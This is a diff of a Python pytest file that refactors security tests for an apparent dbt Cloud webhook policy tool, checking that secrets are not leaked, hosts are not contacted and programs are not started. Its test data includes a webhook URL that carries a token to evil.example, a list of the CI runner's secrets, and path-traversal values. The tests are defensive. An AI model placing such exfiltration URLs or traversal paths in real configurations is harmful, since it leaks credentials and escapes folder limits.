@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import threading
-from collections.abc import Iterator
+from collections.abc import Callable, Generator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -41,15 +41,24 @@ HOSTS = [
 ]
 
 
-@pytest.mark.parametrize("host", HOSTS)
-def test_the_token_goes_nowhere_else(place: WatchedPlace, host: str) -> None:
+def test_the_token_goes_nowhere_else(place: WatchedPlace) -> None:
     port = place.sandbox.authority.rpartition(":")[2]
-    place.policy(tells("maria").replace("host: $DBT_CLOUD_HOST", f'host: "{host.replace("PORT", port)}"'))
-    done = place.run("plan")
-    assert done.code in {3, 4}, f"the host is wrong (3) or not trusted (4), and the token stays\n{done}"
-    assert place.watched().of("connect") == [], f"nothing may be called: {place.watched().of('connect')}"
-    assert place.watched().of("resolve") == [], f"not even a name may be looked up: {place.watched().of('resolve')}"
-    assert place.leaks(done) == []
+    hosts = {host: f'host: "{host.replace("PORT", port)}"' for host in HOSTS}
+    ends = place.run_each(
+        "plan", {h: tells("maria").replace("host: $DBT_CLOUD_HOST", text) for h, text in hosts.items()}
+    )
+    for host, done in ends.items():
+        assert done.code in {3, 4}, f"{host} is wrong (3) or not trusted (4), and the token stays\n{done}"
+    _nothing_was_called(place)
+    assert place.leaks(*ends.values()) == []
+
+
+def _nothing_was_called(place: WatchedPlace) -> None:
+    watched = place.watched()
+    assert watched.of("connect") == [], f"nothing may be called: {watched.of('connect')}"
+    assert watched.of("resolve") == [], f"not even a name may be looked up: {watched.of('resolve')}"
+    programs = [program for program in watched.of("program") if program != ["git", "rev-parse", "HEAD"]]
+    assert not programs, f"no program may be started: {programs}"
 
 
 def test_a_policy_cannot_make_a_host_trusted_but_the_operator_can(place: WatchedPlace) -> None:
@@ -60,7 +69,7 @@ def test_a_policy_cannot_make_a_host_trusted_but_the_operator_can(place: Watched
 
 
 @contextmanager
-def _receiver() -> Iterator[tuple[int, list[str]]]:
+def _receiver() -> Generator[tuple[int, list[str]]]:
     """Yield a port and the Authorization headers that arrived there."""
     seen: list[str] = []
 
@@ -70,7 +79,7 @@ def _receiver() -> Iterator[tuple[int, list[str]]]:
             self.send_response(200)
             self.end_headers()
 
-        do_POST = do_PUT = do_GET
+        do_POST = do_GET  # noqa: N815 - the standard library's name
 
         def log_message(self, format: str, *args: object) -> None:  # noqa: A002
             """Keep quiet."""
@@ -111,43 +120,50 @@ def test_a_proxy_of_the_environment_does_not_get_the_token_on_loopback(place: Wa
 
 
 FORBIDDEN = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "AWS_SECRET_ACCESS_KEY"]
-PLACES = {
+RELAY = "relay: {url: 'https://alerts.acme.example/dbt', secret_sink: {store: file, path: s}}\n"
+
+
+def _channel(name: str) -> str:
+    return HEAD.replace("channels:\n", f"{RELAY}channels:\n  x: {{type: slack, url: ${name}}}\n")
+
+
+def _webhook(more: str = "jobs: all", *, url: str = "https://a.example") -> str:
+    return f'webhooks:\n  - {{name: x, url: "{url}", on: [completed], {more}}}\n'
+
+
+PLACES: dict[str, Callable[[str], str]] = {
     "the token": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", f"${name}"),
     "the token, in braces": lambda name: tells("maria").replace("$DBT_CLOUD_TOKEN", '"${' + name + '}"'),
     "the host": lambda name: tells("maria").replace("$DBT_CLOUD_HOST", f"${name}"),
-    "a channel": lambda name: HEAD.replace(
-        "channels:\n",
-        f"relay: {{url: 'https://alerts.acme.example/dbt', secret_sink: {{store: file, path: s}}}}\nchannels:\n  x: {{type: slack, url: ${name}}}\n",
-    ),
+    "a channel": _channel,
 }
 
 
-@pytest.mark.parametrize("name", FORBIDDEN)
-@pytest.mark.parametrize("where", PLACES.values(), ids=PLACES.keys())
-def test_references_to_the_runners_own_secrets_are_refused(place: WatchedPlace, name: str, where: object) -> None:
-    assert callable(where)
-    place.policy(where(name))
-    done = place.run("plan")
-    assert done.code == 3, f"${name} must be refused with its place\n{done}"
-    assert name in done.err, f"the message names it\n{done}"
-    assert "policy.yml:" in done.err, f"and says where\n{done}"
-    assert place.watched().of("connect") == [], "nothing may be called"
-    assert place.leaks(done) == []
+def test_references_to_the_runners_own_secrets_are_refused(place: WatchedPlace) -> None:
+    cases = {f"{name} as {where}": (name, text(name)) for name in FORBIDDEN for where, text in PLACES.items()}
+    ends = place.run_each("plan", {case: text for case, (_, text) in cases.items()})
+    for case, done in ends.items():
+        assert done.code == 3, f"{case} must be refused with its place\n{done}"
+        assert cases[case][0] in done.err, f"{case}: the message names it\n{done}"
+        assert "policy.yml:" in done.err, f"{case}: and says where\n{done}"
+    _nothing_was_called(place)
+    assert place.leaks(*ends.values()) == []
 
 
 UNFIT = {
-    "a reference in plain text": "webhooks:\n  - {name: x, url: $TICKET_URL, on: [completed], jobs: all}\n",
-    "a reference in a part of a text": 'webhooks:\n  - {name: x, url: "https://evil.example/?t=$DBT_CLOUD_TOKEN", on: [completed], jobs: all}\n',
-    "a reference in a description": 'webhooks:\n  - {name: x, url: "https://a.example", description: $DBT_CLOUD_TOKEN, on: [completed], jobs: all}\n',
+    "a reference in plain text": _webhook(url="$TICKET_URL"),
+    "a reference in a part of a text": _webhook(url="https://evil.example/?t=$DBT_CLOUD_TOKEN"),
+    "a reference in a description": _webhook("description: $DBT_CLOUD_TOKEN, jobs: all"),
 }
 
 
-@pytest.mark.parametrize("text", UNFIT.values(), ids=UNFIT.keys())
-def test_a_reference_outside_a_secret_field_carries_nothing_out(place: WatchedPlace, text: str) -> None:
-    place.policy(tells("maria").replace("ledger:", "scope: {all_jobs_webhooks: true}\nledger:") + text)
-    done = place.run("plan", "--json")
-    assert place.leaks(done) == [], "the reference was opened"
-    assert done.code in {0, 3}, done
+def test_a_reference_outside_a_secret_field_carries_nothing_out(place: WatchedPlace) -> None:
+    base = tells("maria").replace("ledger:", "scope: {all_jobs_webhooks: true}\nledger:")
+    ends = place.run_each("plan", {case: base + text for case, text in UNFIT.items()})
+    for case, done in ends.items():
+        assert done.code in {0, 3}, f"{case}\n{done}"
+    leaks = [leak for leak in place.leaks(*ends.values()) if "policy.yml" not in leak]
+    assert not leaks, f"a reference was opened: {leaks}"
 
 
 COMMANDS = {
@@ -159,23 +175,19 @@ COMMANDS = {
 }
 
 
-@pytest.mark.parametrize("sink", COMMANDS.values(), ids=COMMANDS.keys())
 @pytest.mark.parametrize("command", ["plan", "apply"])
-def test_a_policy_names_no_program(place: WatchedPlace, sink: str, command: str) -> None:
-    hook = (
-        f'webhooks:\n  - {{name: x, url: "https://a.example", on: [completed], jobs: {{project: Finance}}, {sink}}}\n'
-    )
-    place.policy(tells("maria") + hook)
-    done = place.run(command)
-    assert done.code in {3, 4}, done
-    assert not list(place.folder.rglob("pwned")), "the policy's command ran"
-    programs = [program for program in place.watched().of("program") if program != ["git", "rev-parse", "HEAD"]]
-    assert not programs, f"a program was started: {programs}"
+def test_a_policy_names_no_program(place: WatchedPlace, command: str) -> None:
+    policies = {
+        case: tells("maria") + _webhook(f"jobs: {{project: Finance}}, {sink}") for case, sink in COMMANDS.items()
+    }
+    for case, done in place.run_each(command, policies).items():
+        assert done.code in {3, 4}, f"{case}\n{done}"
+    _nothing_was_called(place)
+    assert not list(place.folder.rglob("pwned")), "a policy's command ran"
 
 
 def test_the_operators_program_runs_in_apply_only(place: WatchedPlace) -> None:
-    hook = 'webhooks:\n  - {name: x, url: "https://a.example", on: [completed], jobs: {project: Finance}, secret_sink: {store: command}}\n'
-    place.policy(tells("maria") + hook)
+    place.policy(tells("maria") + _webhook("jobs: {project: Finance}, secret_sink: {store: command}"))
     store = place.folder / "store.sh"
     store.write_text(
         '#!/bin/sh\nmkdir -p secrets\n[ "$1" = probe ] && exit 0\ncat > secrets/kept\necho stored\n', encoding="utf-8"
@@ -192,13 +204,13 @@ def test_the_operators_program_runs_in_apply_only(place: WatchedPlace) -> None:
     assert place.leaks(planned, done, more={"the HMAC secret": secret}) == []
 
 
-PATHS = ["../outside.secret", "/tmp/outside-of-everything.secret", "policies/policy.yml", "a/../../outside.secret"]
+PATHS = ["../outside.secret", "/outside-of-everything.secret", "policies/policy.yml", "a/../../outside.secret"]
 
 
 @pytest.mark.parametrize("path", PATHS)
 def test_a_sink_does_not_leave_the_folder_or_overwrite_what_is_there(place: WatchedPlace, path: str) -> None:
-    hook = f'webhooks:\n  - {{name: x, url: "https://a.example", on: [completed], jobs: {{project: Finance}}, secret_sink: {{store: file, path: "{path}"}}}}\n'
-    place.policy(tells("maria") + hook)
+    sink = f'secret_sink: {{store: file, path: "{path}"}}'
+    place.policy(tells("maria") + _webhook(f"jobs: {{project: Finance}}, {sink}"))
     text = (place.folder / "policies" / "policy.yml").read_text(encoding="utf-8")
     done = place.run("apply")
     assert done.code in {3, 4}, done
